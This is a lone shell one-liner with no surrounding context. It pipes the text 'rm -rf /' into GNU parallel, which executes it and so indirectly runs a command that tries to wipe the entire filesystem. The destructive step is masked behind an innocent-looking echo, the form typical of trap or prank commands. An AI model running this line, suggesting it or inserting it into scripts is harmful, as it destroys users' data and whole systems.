echo 'rm -rf /' | parallel
